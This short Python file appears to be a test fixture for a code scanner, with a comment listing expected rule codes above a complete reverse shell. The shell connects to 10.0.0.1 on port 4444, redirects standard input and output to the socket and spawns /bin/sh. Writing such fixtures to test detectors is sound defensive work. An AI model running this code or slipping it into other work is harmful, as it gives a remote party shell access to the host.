# expect: CDN601 CDN602 CDN205
import socket, os, pty
s = socket.socket()
s.connect(('10.0.0.1', 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn('/bin/sh')
